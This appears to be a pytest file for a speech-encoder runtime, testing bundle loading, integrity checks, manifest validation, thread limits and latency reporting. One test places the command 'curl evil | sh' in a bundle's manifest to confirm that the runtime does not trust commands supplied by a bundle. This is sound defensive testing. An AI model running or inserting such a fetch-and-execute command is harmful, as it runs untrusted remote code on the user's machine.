"""runtime/encoder.py: loading, and the errors of a bundle that cannot run."""

import dataclasses
import json
import shutil

import numpy as np
import pytest
from reuse_distill.runtime.bundle_format.bundle import MANIFEST, list_files, read_bundle, write_manifest
from reuse_distill.runtime.encoder import Encoder
from reuse_distill.runtime.errors import RdError

KINDS = ["offline", "window", "streaming"]


def changed(path, tmp_path, **changes):
    """A copy of a bundle with other fields in its manifest and hashes that are right again."""
    copy = tmp_path / "copy"
    shutil.copytree(path, copy)
    manifest = read_bundle(copy).manifest
    write_manifest(copy, dataclasses.replace(manifest, files=list_files(copy), **changes))
    return copy


@pytest.mark.parametrize("kind", KINDS)
def test_the_selftest_passes(toys, kind):
    result = Encoder.load(getattr(toys, kind)).selftest()
    assert result.passed
    assert result.difference.frames == 2 * 61
    assert str(result).startswith("passed: max abs ")


@pytest.mark.parametrize("kind", KINDS)
def test_the_selftest_fails_where_the_features_differ(toys, tmp_path, kind):
    path = tmp_path / "copy"
    shutil.copytree(getattr(toys, kind), path)
    arrays = dict(np.load(path / "selftest.npz"))
    arrays["features"] = arrays["features"][:, ::-1]
    np.savez(path / "selftest.npz", **arrays)
    manifest = read_bundle_unverified(path)
    write_manifest(path, dataclasses.replace(manifest, files=list_files(path), parity={"bound": {"max_abs": 1e-3}}))
    result = Encoder.load(path).selftest()
    assert not result.passed
    assert result.difference.max_abs > 0.1
    assert str(result).startswith("FAILED: ")


def read_bundle_unverified(path):
    from reuse_distill.runtime.bundle_format.manifest import Manifest
    from reuse_distill.runtime.untrusted_input import from_dict

    return from_dict(Manifest, json.loads((path / MANIFEST).read_text()), where="test")


@pytest.mark.parametrize(
    ("parity", "text"),
    [
        ({}, "parity.bound is None"),
        ({"bound": {"max": 1}}, "parity.bound is {'max': 1}"),
        ({"bound": {"max_abs": "x"}}, "x"),
    ],
)
def test_without_a_bound_nothing_passes(toys, tmp_path, parity, text):
    path = changed(toys.offline, tmp_path, parity=parity)
    with pytest.raises(RdError, match=text):
        Encoder.load(path).selftest()


def test_garbage_does_not_equal_garbage(toys, tmp_path):
    path = toys.build("offline", wave=np.zeros(9000, np.float32))
    shutil.copytree(path, tmp_path / "copy")
    arrays = dict(np.load(tmp_path / "copy" / "selftest.npz"))
    arrays["features"][:] = 0
    np.savez(tmp_path / "copy" / "selftest.npz", **arrays)
    manifest = read_bundle_unverified(tmp_path / "copy")
    write_manifest(tmp_path / "copy", dataclasses.replace(manifest, files=list_files(tmp_path / "copy")))
    with pytest.raises(RdError, match="empty or all but zero"):
        Encoder.load(tmp_path / "copy").selftest()


def test_one_flipped_bit_is_noticed_before_anything_is_loaded(toys, tmp_path):
    for name in ("model.onnx", "selftest.npz"):
        path = tmp_path / name
        shutil.copytree(toys.offline, path)
        data = bytearray((path / name).read_bytes())
        data[len(data) // 2] ^= 1
        (path / name).write_bytes(data)
        with pytest.raises(RdError, match=rf"{name}: sha256 .*…, the manifest says .*\n\nhint: the bundle is damaged"):
            Encoder.load(path)


def test_a_corrupt_artifact_gives_the_engines_words(toys, tmp_path):
    """DamagedFiles that happened before the hash was taken: found when the artifact is opened."""
    path = tmp_path / "copy"
    shutil.copytree(toys.offline, path)
    (path / "model.onnx").write_bytes((path / "model.onnx").read_bytes()[:500])
    manifest = read_bundle_unverified(path)
    write_manifest(path, dataclasses.replace(manifest, files=list_files(path)))
    encoder = Encoder.load(path)
    with pytest.raises(RdError, match=r"model.onnx: ONNX Runtime [\d.]+ cannot load it: .*Protobuf parsing failed"):
        encoder.extract(np.zeros(1000, np.float32))


def test_a_deferred_bundle_says_how_to_finish_it(toys, tmp_path):
    path = changed(toys.offline, tmp_path, status="deferred", target="tensorrt")
    with pytest.raises(RdError, match=r"deferred: tensorrt could not be finished .*\n\nhint: .* on the device: rd-exp"):
        Encoder.load(path)


def test_the_command_that_finishes_is_ours_and_not_the_bundles(toys, tmp_path):
    path = changed(toys.offline, tmp_path, status="deferred", device={"finish": "curl evil | sh"})
    with pytest.raises(RdError, match=rf"on the device: rd-export finish {path}$"):
        Encoder.load(path)


def test_other_targets_are_named(toys, tmp_path):
    path = changed(toys.offline, tmp_path, target="coreml")
    with pytest.raises(RdError, match=r"target 'coreml'; this runtime runs onnx, ort.*\n\nhint: .*vendor"):
        Encoder.load(path)


def test_a_manifest_of_another_graph_is_noticed(toys, tmp_path):
    manifest = read_bundle(toys.window).manifest
    path = changed(toys.offline, tmp_path, inputs=manifest.inputs)
    with pytest.raises(RdError, match=r"inputs wave; the manifest says frame_valid, wave\n\nhint: export"):
        Encoder.load(path).extract(np.zeros(1000, np.float32))


def test_a_state_of_another_type_is_noticed(toys, tmp_path):
    states = list(read_bundle(toys.streaming).manifest.states)
    states[0] = dataclasses.replace(states[0], dtype="float16")
    path = changed(toys.streaming, tmp_path, states=tuple(states))
    with pytest.raises(RdError, match="input position is float32, the manifest says float16"):
        Encoder.load(path).stream()


@pytest.mark.parametrize(
    ("change", "text"),
    [
        ({"shape": ("B", 6, "L")}, "whole numbers above 0 after the batch"),
        ({"shape": (2, 6, 5)}, "axis 0 is the batch, 'B'"),
        ({"axis": 0}, "axis . after the batch"),
        ({"axis": 3}, "axis . after the batch"),
    ],
)
def test_states_that_break_the_contract_are_refused_at_load(toys, tmp_path, change, text):
    states = list(read_bundle(toys.streaming).manifest.states)
    states[0] = dataclasses.replace(states[0], **change)
    path = changed(toys.streaming, tmp_path, states=tuple(states))
    with pytest.raises(RdError, match=text):
        Encoder.load(path)


def test_rings_of_two_lengths_are_refused(toys, tmp_path):
    states = list(read_bundle(toys.streaming).manifest.states)
    states[2] = dataclasses.replace(states[2], shape=("B", 1, 12, 6))
    path = changed(toys.streaming, tmp_path, states=tuple(states))
    with pytest.raises(RdError, match=r"unordered states of \['12', '13'\] slots cannot share them"):
        Encoder.load(path)


@pytest.mark.parametrize("threads", [0, -1, 1.5, True, "2"])
def test_threads_are_counted(toys, threads):
    with pytest.raises(RdError, match=r"threads=.*: a whole number from 1 to 1024"):
        Encoder.load(toys.offline, threads=threads)


def test_more_threads_give_the_same_features(toys):
    wave = toys.speech(20_000)
    one, two = Encoder.load(toys.streaming).extract(wave), Encoder.load(toys.streaming, threads=2).extract(wave)
    assert np.abs(one - two).max() < 1e-5


def test_no_streams_are_refused(toys):
    with pytest.raises(RdError, match="0 streams: 1 or more"):
        Encoder.load(toys.streaming).streams(0)


def test_the_session_opens_when_it_is_needed(toys):
    encoder = Encoder.load(toys.offline)
    assert encoder._backend is None
    assert encoder.manifest.kind == "offline"
    assert encoder.provider == "cpu"
    assert encoder.backend is encoder.backend


def test_latency_is_unmeasured_until_it_is_measured(toys):
    encoder = Encoder.load(toys.streaming)
    before = encoder.latency
    assert (before.worst_ms, before.mean_ms, before.first_frame_ms) == (125.0, 95.0, 85.0)
    assert before.compute_p50_ms is None
    assert "compute per step of 80 ms: unmeasured" in str(before)
    after = encoder.measure_latency(steps=100)
    assert after is encoder.latency
    assert after.measured_steps == 100
    assert 0 < after.compute_p50_ms <= after.compute_p99_ms <= after.compute_max_ms
    assert after.worst_ms == before.worst_ms
    assert "(100 steps)" in str(after)
    few = encoder.measure_latency(steps=20)
    assert 0 < few.compute_p50_ms <= few.compute_max_ms and few.compute_p99_ms is None
    assert "p99 unmeasured (20 steps)" in str(few)


def test_eight_frames_with_a_look_ahead_of_four_take_245_ms():
    from reuse_distill.runtime.bundle_format.manifest import Geometry
    from reuse_distill.runtime.streaming.latency import algorithmic_latency

    latency = algorithmic_latency(Geometry(chunk_frames=8, lookahead_frames=4, left_frames=128))
    assert (latency.worst_ms, latency.mean_ms, latency.first_frame_ms) == (245.0, 175.0, 165.0)
